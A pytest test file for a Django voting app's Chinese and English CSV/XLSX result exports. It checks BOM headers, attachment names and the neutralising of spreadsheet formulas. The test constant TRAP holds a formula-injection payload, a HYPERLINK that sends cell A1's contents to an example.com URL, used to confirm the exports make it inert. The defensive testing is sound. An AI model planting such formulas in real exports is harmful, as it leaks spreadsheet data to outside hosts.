"""Downloads of a certified round: Excel opens them in Chinese, and no cell runs as a formula."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse
from django.utils import translation

from proposals.models import BallotItem
from rounds.exports import neutralise
from tests.voting.test_certify import certify

pytestmark = pytest.mark.django_db

BOM = b"\xef\xbb\xbf"
TRAP = '=HYPERLINK("http://example.com/?"&A1,"点我")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_neutralise_puts_a_quote_before_text_a_spreadsheet_would_run(start):
    assert neutralise(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["路灯维修", "1+1", -5, 3, None])
def test_neutralise_leaves_other_values_alone(value):
    assert neutralise(value) == value


@pytest.fixture
def certified(round, staff, counted):
    BallotItem.objects.filter(round=round, ref="1").update(title=TRAP)
    return certify(round, staff)


def get(client, name, round, language="zh-hans"):
    with translation.override(language):
        response = client.get(reverse(name, args=[round.pk]))
    assert response.status_code == 200
    return response


def test_results_csv_starts_with_a_bom_and_chinese_headers_and_values(client, round, certified):
    content = get(client, "voting:results_csv", round).content

    assert content.startswith(BOM)
    lines = content.decode("utf-8-sig").splitlines()
    assert lines[0].split(",") == [
        "排名",
        "编号",
        "项目",
        "预算（元）",
        "得票",
        "得票率",
        "累计（元）",
        "是否入选",
        "说明",
    ]
    assert lines[1].split(",")[-2:] == ["是", "在资金额度内"]


def test_results_csv_neutralises_a_formula_in_a_title(client, round, certified):
    text = get(client, "voting:results_csv", round).content.decode("utf-8-sig")

    assert ",\"'=HYPERLINK(" in text
    assert ",=HYPERLINK" not in text and ',"=HYPERLINK' not in text


def workbook_rows(response):
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()], sheet


def test_results_xlsx_holds_the_ranking_with_the_formula_as_text(client, round, certified):
    rows, sheet = workbook_rows(get(client, "voting:results_xlsx", round))

    assert rows[0][:3] == ["排名", "编号", "项目"]
    assert {row[2] for row in rows[1:]} >= {f"'{TRAP}"}
    assert {cell.data_type for cell in sheet["C"]} == {"s"}
    assert [row[4] for row in rows[1:]] == [3, 2, 1]


def test_ballots_xlsx_holds_the_same_table_as_the_csv(client, round, certified):
    rows, _sheet = workbook_rows(get(client, "voting:ballots_xlsx", round))
    text = get(client, "voting:ballots_csv", round).content.decode("utf-8-sig")

    assert [[cell or "" for cell in row] for row in rows] == list(csv.reader(io.StringIO(text)))


def test_downloads_are_attachments_named_in_chinese(client, round, certified):
    response = get(client, "voting:ballots_xlsx", round)

    assert response["Content-Disposition"].startswith("attachment;")
    assert (
        "%E5%85%A8%E9%83%A8%E5%8C%BF%E5%90%8D%E9%80%89%E7%A5%A8.xlsx"
        in (response["Content-Disposition"])
    )


def test_english_downloads_have_english_headers_and_values(client, round, certified):
    results = get(client, "voting:results_csv", round, language="en").content.decode("utf-8-sig")
    ballots = get(client, "voting:ballots_csv", round, language="en").content.decode("utf-8-sig")

    assert results.splitlines()[0] == (
        "Rank,Number,Project,Cost (yuan),Votes,Vote share,Running total (yuan),Selected,Note"
    )
    assert results.splitlines()[1].endswith(",Yes,Within the fund")
    assert ballots.splitlines()[0] == "Ballot station,Kind,Project"
    assert "Combined,Valid," in ballots
